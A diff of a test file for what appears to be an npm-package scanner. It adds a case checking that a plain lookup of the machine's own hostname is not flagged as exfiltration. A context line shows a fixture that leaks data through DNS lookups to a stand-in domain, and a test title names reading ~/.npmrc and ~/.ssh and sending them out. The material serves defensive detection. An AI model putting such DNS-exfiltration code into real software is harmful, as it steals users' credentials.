@@ -90,6 +90,9 @@ dns.lookup(label + '.c0ffee.example.net', () => {});
     }, postinstall);
     expect(r.ids).toContain('exfiltration/flow');
     expect(r.level).toBe('high');
+    // Asking the resolver for the machine's own full name names no domain of the file's: nothing leaves.
+    const fqdn = scan({ 'index.js': `const os = require('os'), dns = require('dns');\nconst uqdn = os.hostname();\ndns.lookup(uqdn, { hints: dns.ADDRCONFIG }, (err, ip) => { if (!err) dns.lookupService(ip, 0, () => {}); });\n` }, postinstall);
+    expect(fqdn.ids).not.toContain('exfiltration/flow');
   });
 
   it('~/.npmrc and ~/.ssh read and sent through a local helper from main reaches at least medium', () => {
